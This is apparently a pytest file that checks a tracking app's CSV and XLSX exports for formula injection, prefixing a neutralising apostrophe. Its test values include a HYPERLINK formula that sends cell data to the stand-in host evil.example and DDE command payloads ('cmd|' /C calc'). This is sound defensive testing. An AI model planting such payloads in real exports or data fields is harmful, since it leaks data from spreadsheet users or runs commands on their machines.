"""Every CSV/XLSX export neutralises text that a spreadsheet would run as a formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from tracker.auth.models import OrgType
from tracker.core.exports import append_row, csv_cell, csv_writer, safe_cell

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
HOSTILE_STARTS = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE_STARTS)
def test_text_starting_like_a_formula_gets_a_leading_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Alva", "", None, -5, -1.5, Decimal("-2.50"), date(2026, 3, 1), "a=b"])
def test_other_values_pass_unchanged(value):
    assert safe_cell(value) == value


def test_csv_cells_keep_negative_numbers_as_numbers_with_a_decimal_comma():
    assert csv_cell(-1.5) == "-1,5" and csv_cell(Decimal("2.25")) == "2,25" and csv_cell(None) == ""
    assert csv_cell("-1,5") == "'-1,5"  # text that merely looks like a number stays text
    buffer = io.StringIO()
    csv_writer(buffer).writerow([FORMULA, 3, -2.0])
    row = next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert row == ["'" + FORMULA, "3", "-2"]


def test_xlsx_rows_never_hold_a_formula():
    sheet = Workbook().active
    append_row(sheet, [FORMULA, -3])
    assert sheet["A1"].data_type == "s" and sheet["A1"].value == "'" + FORMULA
    assert sheet["B1"].value == -3


def _all_xlsx_strings(data: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(data))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cell in export"
    return [c.value for c in cells if isinstance(c.value, str)]


def _assert_neutral_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell
    return rows


def test_certificate_export_neutralises_a_hostile_clinic_name(client, login_as, factory, db):
    user = login_as("rehabkoordinator")
    user.organisation.name = FORMULA
    person = factory.individual(clinic=user.organisation)
    factory.certificate(person, issued_on=date(2026, 3, 1), clinic=user.organisation)
    db.session.commit()
    body = client.get("/formaner/lakarutlatanden/export.csv?sedan=2026-02-01").get_data(as_text=True)
    assert any("'" + FORMULA in row for row in _assert_neutral_csv(body))
    xlsx = client.get("/formaner/lakarutlatanden/export.xlsx?sedan=2026-02-01")
    assert "'" + FORMULA in _all_xlsx_strings(xlsx.data)


def test_invoicing_xlsx_neutralises_hostile_staff_project_and_forbund_names(client, login, factory, db):
    from tracker.timesheets.models import TimeCategory

    team = factory.organisation(OrgType.PROJECT)
    project = factory.project(organisation=team, name="@SUM(1)")
    forbund = factory.organisation(OrgType.FORBUND, name="+cmd|' /C calc'!A0")
    lead = factory.user("samordnare", organisation=team, full_name=FORMULA)
    factory.member(project, lead, is_lead=True)
    factory.hourly_cost(project, Decimal("500"))
    factory.allocation_key(project, date(2020, 1, 1), {forbund: Decimal("100")})
    factory.time_entry(lead, project, date(2026, 3, 2), Decimal("2"), category=TimeCategory.PATIENT_WORK)
    db.session.commit()
    login(lead)
    response = client.get(f"/tid/projekt/{project.id}/fakturaunderlag.xlsx?fran=2026-03-01&till=2026-03-16")
    assert response.status_code == 200
    strings = _all_xlsx_strings(response.data)
    assert "'" + FORMULA in strings and "'+cmd|' /C calc'!A0" in strings


def test_audit_csv_neutralises_a_hostile_user_label(client, login_as, factory, db):
    from tracker.audit.models import AuditAction
    from tracker.audit.services import record

    login_as("admin")
    record(AuditAction.VIEW, object_type="Test", details="=1+1", reason=FORMULA)
    db.session.commit()
    body = client.get("/admin/logg/export.csv").get_data(as_text=True)
    rows = _assert_neutral_csv(body)
    assert any("'" + FORMULA in row for row in rows) and any("'=1+1" in row for row in rows)


def test_report_and_sus_exports_neutralise_hostile_project_names_and_municipalities(
    client, login, factory, db
):
    team = factory.organisation(OrgType.PROJECT)
    project = factory.project(organisation=team, name=FORMULA)
    staff = factory.user("samordnare", organisation=team)
    factory.member(project, staff, is_lead=True)
    person = factory.individual(clinic=team, home_municipality="=cmd|' /C calc'!A0")
    factory.enrolment(project, person, enrolled_on=date(2025, 3, 1))
    db.session.commit()
    login(staff)
    year = {"typ": "ar", "ar": "2025"}
    sus = client.get(f"/rapporter/{project.id}/sus.csv", query_string=year)
    assert sus.status_code == 200
    assert any("'=cmd|' /C calc'!A0" in row for row in _assert_neutral_csv(sus.get_data(as_text=True)))
    report = client.get(f"/rapporter/{project.id}/rapport.csv", query_string=year)
    assert report.status_code == 200
    _assert_neutral_csv(report.get_data(as_text=True))
    assert "'=cmd" in report.get_data(as_text=True)
    xlsx = client.get(f"/rapporter/{project.id}/rapport.xlsx", query_string=year)
    strings = _all_xlsx_strings(xlsx.data)
    assert f"Rapport: {FORMULA}" in strings and "'=cmd|' /C calc'!A0" in strings
